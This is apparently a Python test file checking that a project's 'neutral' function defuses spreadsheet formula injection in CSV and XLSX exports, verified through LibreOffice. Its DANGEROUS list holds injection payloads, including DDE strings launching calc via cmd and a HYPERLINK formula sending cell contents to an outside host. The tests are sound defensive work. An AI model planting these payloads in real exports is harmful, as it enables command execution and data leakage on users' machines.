"""Text that a spreadsheet would run: harmless in LibreOffice, and the value survives the way back."""

from __future__ import annotations

import csv
import io
import subprocess
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from jamsostek.messages.tables.books import Book
from jamsostek.messages.tables.cells import text_of
from jamsostek.messages.tables.neutral import neutral, original, runs

DANGEROUS = [
    "=1+1", "=CMD|' /C calc'!A0", "+62812000001", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
    " =1+1", "\n=1+1", "=HYPERLINK(\"http://contoh.id?x=\"&A1)", "=IMPORTXML(\"http://contoh.id\",\"//a\")", "＝1+1", "％=1",
    "\u00a0=1+1", "=1+1;=2+2", "=1+1\",\"=2+2", "%0A=1+1", "|calc", "'=1+1", "=DDE(\"cmd\";\"/C calc\";\"x\")",
]  # fmt: skip
HARMLESS = ["Agus Santoso", "Syafi'i", "'", "''", "-", "+", "=", "", "a=b", "081200000001", "Jl. Melati 12 = pojok", "'Aisyah"]


def soffice(folder: Path, source: Path, kind: str, *options: str) -> Path:
    """The file converted by LibreOffice, which opens it as a person would."""
    command = ["soffice", "--headless", f"-env:UserInstallation=file://{folder}/profile", "--convert-to", kind, *options,
               "--outdir", str(folder / "out"), str(source)]  # fmt: skip
    subprocess.run(command, check=True, capture_output=True, timeout=120)
    return next((folder / "out").glob(f"{source.stem}.*"))


def test_a_csv_of_neutral_values_holds_no_formula_in_libreoffice(tmp_path: Path) -> None:
    source = tmp_path / "ekspor.csv"
    with source.open("w", newline="", encoding="utf-8") as file:
        writer = csv.writer(file, delimiter=";")
        writer.writerows([[number, neutral(text), "akhir"] for number, text in enumerate(DANGEROUS + HARMLESS)])
    made = soffice(tmp_path, source, "xlsx", "--infilter=CSV:59,34,76,1")
    sheet = openpyxl.load_workbook(made).active
    assert sheet is not None
    assert [cell.data_type for row in sheet.iter_rows() for cell in row if cell.data_type == "f"] == []
    assert [sheet.cell(row, 3).value for row in range(1, sheet.max_row + 1)] == ["akhir"] * len(DANGEROUS + HARMLESS)


def test_a_csv_of_values_as_they_are_would_hold_formulas(tmp_path: Path) -> None:
    """The test above can fail: without `neutral` LibreOffice does take some of these for formulas."""
    source = tmp_path / "ekspor.csv"
    source.write_text("\n".join(f"{text};x" for text in ("=1+1", "=SUM(1;2)")), encoding="utf-8")
    sheet = openpyxl.load_workbook(soffice(tmp_path, source, "xlsx", "--infilter=CSV:59,34,76,1")).active
    assert sheet is not None and sheet["A1"].data_type == "f"


def test_values_survive_the_round_trip_through_csv() -> None:
    out = io.StringIO(newline="")
    csv.writer(out).writerows([[neutral(text)] for text in DANGEROUS + HARMLESS])
    back = [original(row[0]) if row else "" for row in csv.reader(io.StringIO(out.getvalue(), newline=""))]
    assert back == DANGEROUS + HARMLESS


def test_our_own_readers_drop_the_apostrophe_too() -> None:
    assert text_of(neutral("+62812000001")) == "+62812000001"


@given(st.text())
def test_any_text_comes_back_and_none_could_run(text: str) -> None:
    safe = neutral(text)
    assert original(safe) == text
    assert (not runs(safe) and not safe[:2].startswith(("=", "@"))) or len(safe) < 2


@pytest.mark.parametrize("value", [5, -5, 1.5, None, True, b"=1"])
def test_what_is_no_text_stays_as_it_is(value: object) -> None:
    assert neutral(value) is value and original(value) is value


def test_a_workbook_of_ours_holds_text_alone_in_libreoffice(tmp_path: Path) -> None:
    path = tmp_path / "ekspor.xlsx"
    book = Book(path, "Ekspor")
    sheet = book.book.add_worksheet()
    for row, text in enumerate(DANGEROUS + HARMLESS):
        book.text(sheet, row, 0, text)
        sheet.write_string(row, 1, "akhir")
    book.close()
    again = openpyxl.load_workbook(soffice(tmp_path, soffice(tmp_path, path, "ods"), "xlsx")).active
    assert again is not None
    assert [cell.coordinate for row in again.iter_rows() for cell in row if cell.data_type == "f"] == []
    for row, text in enumerate(DANGEROUS + HARMLESS, 1):
        assert (again.cell(row, 1).value or "").split() == text.split()
